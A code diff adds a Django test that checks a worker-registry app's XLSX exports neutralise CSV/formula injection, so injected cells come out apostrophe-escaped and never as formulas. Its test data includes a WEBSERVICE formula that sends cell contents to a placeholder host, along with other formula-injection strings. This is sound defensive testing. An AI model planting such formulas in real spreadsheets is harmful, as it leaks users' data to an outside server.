@@ -512,3 +512,95 @@ class UrlWalkTest(BaseTestCase):
         response = self.client.get("/registri/opd/")
         self.assertContains(response, "DLH Batang")
         self.assertNotContains(response, "Dinas Pendidikan")
+
+
+FORMULA = '=WEBSERVICE("http://x?"&A2)'
+
+
+class XlsxWalkTest(UrlWalkTest):
+    """Every XLSX the walk knows, opened with openpyxl: no cell is a formula (issue 15).
+
+    Inherits the walk's data and route list; runs only its own test (the others are
+    switched off below so that they do not run twice).
+    """
+
+    test_every_page_has_an_access_decision_for_every_persona = None  # type: ignore[assignment]
+    test_anonymous_visitors_are_sent_to_login = None  # type: ignore[assignment]
+    test_every_api_endpoint_has_an_access_decision_for_every_persona = None  # type: ignore[assignment]
+    test_api_refuses_requests_without_a_valid_token = None  # type: ignore[assignment]
+    test_the_walk_covers_every_route = None  # type: ignore[assignment]
+    test_only_a_superuser_may_switch_pemda = None  # type: ignore[assignment]
+
+    def test_no_xlsx_cell_is_a_formula(self) -> None:
+        from io import BytesIO
+
+        import openpyxl
+        from django.core.files.base import ContentFile
+
+        from lindung.dashboards.services import report_create, report_execute
+        from lindung.imports.pipeline import check, create_batch
+        from lindung.reconciliation.rules import Category
+        from lindung.reconciliation.services import reconcile
+        from lindung.reconciliation.tests.scenario import AS_OF
+        from lindung.registry.services import opd_create, worker_add
+
+        opd = opd_create(actor=self.admin, pemda=self.pemda, code="CMD", name="+cmd")
+        worker_add(
+            actor=self.admin, opd=opd, nik=make_valid_nik(), name=FORMULA, phone="",
+            category="kontrak", monthly_wage=2_100_000, start_date=date(2026, 1, 5),
+        )  # fmt: skip
+        worker_add(
+            actor=self.admin, opd=self.opd, nik=make_valid_nik(), name="-5 @SUM(A1)",
+            category="honorer", monthly_wage=1_900_000, start_date=date(2026, 1, 5),
+        )  # fmt: skip
+        run = reconcile(pemda=self.pemda, as_of=AS_OF, user=self.admin).pk
+        report = report_create(pemda=self.pemda, format="xlsx", user=self.admin)
+        report_execute(report)
+        bad = create_batch(
+            pemda=self.pemda, kind="workers", original_name="cmd.csv", user=self.admin,
+            source=ContentFile(f'NIK;Nama;Gaji\n=1+1;{FORMULA};-5\n'.encode(), name="cmd.csv"),
+            options={"opd_id": opd.pk},
+        )  # fmt: skip
+        check(bad)
+        # The walk's own report is a two-byte stand-in; the one made above is real.
+        fake = f"/dasbor/rakor/{self.report.pk}/unduh/"
+        urls = {url for _n, url, _e in self.pages() if url != fake}
+        urls |= {
+            f"/registri/opd/{opd.pk}/unduh.xlsx",
+            f"/dasbor/daftar.xlsx?status=workers&run={run}",
+            f"/dasbor/daftar.xlsx?status=gap&run={run}",
+            f"/dasbor/daftar.xlsx?status=workers&opd={opd.pk}&run={run}",
+            f"/dasbor/rakor/{report.pk}/unduh/",
+            f"/impor/{bad.pk}/galat.xlsx",
+            "/iuran/anggaran/?format=xlsx",
+            *(f"/rekonsiliasi/{run}/daftar.xlsx?kategori={c}" for c in Category.values),
+        }
+        seen: set[str] = set()
+        for persona in ("admin", "root", "pimpinan"):
+            self.client.force_login(self.personas()[persona])
+            for url in sorted(urls):
+                response = self.client.get(url)
+                if response.status_code != 200 or "spreadsheet" not in response["Content-Type"]:
+                    continue
+                body = (
+                    b"".join(response.streaming_content)
+                    if response.streaming
+                    else response.content
+                )
+                wb = openpyxl.load_workbook(BytesIO(body))
+                for ws in wb.worksheets:
+                    for row in ws.iter_rows():
+                        for cell in row:
+                            with self.subTest(url=url, persona=persona, cell=cell.coordinate):
+                                self.assertNotEqual(cell.data_type, "f")
+                                self.assertFalse(str(cell.value or "").startswith("="))
+                            if str(cell.value).startswith("'"):
+                                seen.add(str(cell.value))
+                            if cell.data_type == "n" and isinstance(cell.value, int | float):
+                                seen.add("number")
+        # The data reached the files, neutralised; computed numbers stay numbers.
+        self.assertIn("'" + FORMULA, seen)
+        self.assertIn("'+cmd", seen)
+        self.assertIn("'-5 @SUM(A1)", seen)
+        self.assertIn("'=1+1", seen)
+        self.assertIn("number", seen)
